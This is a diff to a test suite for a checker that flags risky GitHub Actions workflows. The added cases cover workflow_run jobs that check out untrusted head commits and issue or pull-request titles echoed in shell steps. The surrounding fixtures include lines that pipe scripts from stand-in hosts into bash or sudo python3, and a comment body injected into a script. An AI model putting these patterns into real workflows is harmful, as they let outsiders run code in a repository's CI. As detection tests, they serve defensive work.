@@ -13,6 +13,11 @@ function onEvent(event: string, steps: string, runner = 'ubuntu-latest', job = '
   return `on: ${event}\njobs:\n  a:\n    runs-on: ${runner}\n${job}    steps:\n${steps}\n`;
 }
 
+const LATER = '\n  workflow_run:\n    workflows: [CI]';
+const AFTER = '      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.workflow_run.head_sha }}\n      - run: npm test';
+const TITLE = '      - run: echo "${{ github.event.pull_request.title }}"';
+const ISSUE = '      - run: echo "${{ github.event.issue.title }}"';
+
 describe('a workflow that runs what strangers like', () => {
   it.each([
     onEvent('pull_request_target', `${HEAD}      - run: npm ci && npm test`),
@@ -26,6 +31,15 @@ describe('a workflow that runs what strangers like', () => {
     onEvent('issue_comment', "      - uses: actions/github-script@v7\n        with:\n          script: console.log('${{ github.event.comment.body }}')"),
     onEvent('push', "      - run: curl -sSf https://x.test/dump.py | sudo python3 | base64"),
     onEvent('push', '      - run: curl -s http://198.51.100.9/a | bash'),
+    onEvent(LATER, AFTER),
+    onEvent(LATER, AFTER, 'ubuntu-latest', "    if: github.event.workflow_run.conclusion == 'success'\n"),
+    onEvent(LATER, AFTER, 'ubuntu-latest', "    if: github.event.workflow_run.event != 'push'\n"),
+    onEvent(LATER, AFTER, 'ubuntu-latest', "    if: github.event.workflow_run.event == 'push' || github.event.workflow_run.event == 'pull_request'\n"),
+    onEvent('\n- push\n- issues', ISSUE),
+    onEvent('[\n  push,\n  issues\n]', ISSUE),
+    onEvent('{ push: { branches: [main] }, issues: }', ISSUE),
+    onEvent('\n    push:\n      branches:\n        - main\n    "issues": {types: [opened]}', ISSUE),
+    onEvent('issues # of all', ISSUE),
   ])('%s', async (content) => {
     expect((await of(content)).join('\n')).toMatch(RUNS);
     expect((await told(`cat > ${FILE} <<'END'\n${content}END`)).join('\n')).toMatch(RUNS);
@@ -49,6 +63,14 @@ describe('a workflow that runs what strangers like', () => {
     onEvent('push', '      - run: curl -fsSL https://deb.nodesource.com/setup_20.x | sudo -E bash -'),
     onEvent('push', '      - run: curl -sSL https://install.python-poetry.org | python3 -'),
     onEvent('push', '      - run: curl -s http://127.0.0.1:8080/x | bash'),
+    onEvent(LATER, AFTER, 'ubuntu-latest', "    if: github.event.workflow_run.event == 'push'\n"),
+    onEvent(LATER, AFTER, 'ubuntu-latest', "    if: github.event.workflow_run.event != 'pull_request'\n"),
+    onEvent(LATER, AFTER, 'ubuntu-latest', '    if: github.event.workflow_run.head_repository.full_name == github.repository\n'),
+    onEvent(LATER, AFTER, 'ubuntu-latest', "    if: >-\n      github.event.workflow_run.conclusion == 'success' &&\n      github.event.workflow_run.event == 'push'\n"),
+    onEvent("\n  pull_request:\n    paths: ['docs/issues/**']", TITLE),
+    onEvent('\n  pull_request:\n    branches:\n      - issues', TITLE),
+    onEvent('\n  pull_request:\n  workflow_dispatch:\n    inputs:\n      issues:\n        type: string', TITLE),
+    onEvent('\n  # never issues\n  pull_request:', TITLE),
   ])('but not %s', async (content) => {
     expect((await of(content)).join('\n')).not.toMatch(RUNS);
   });
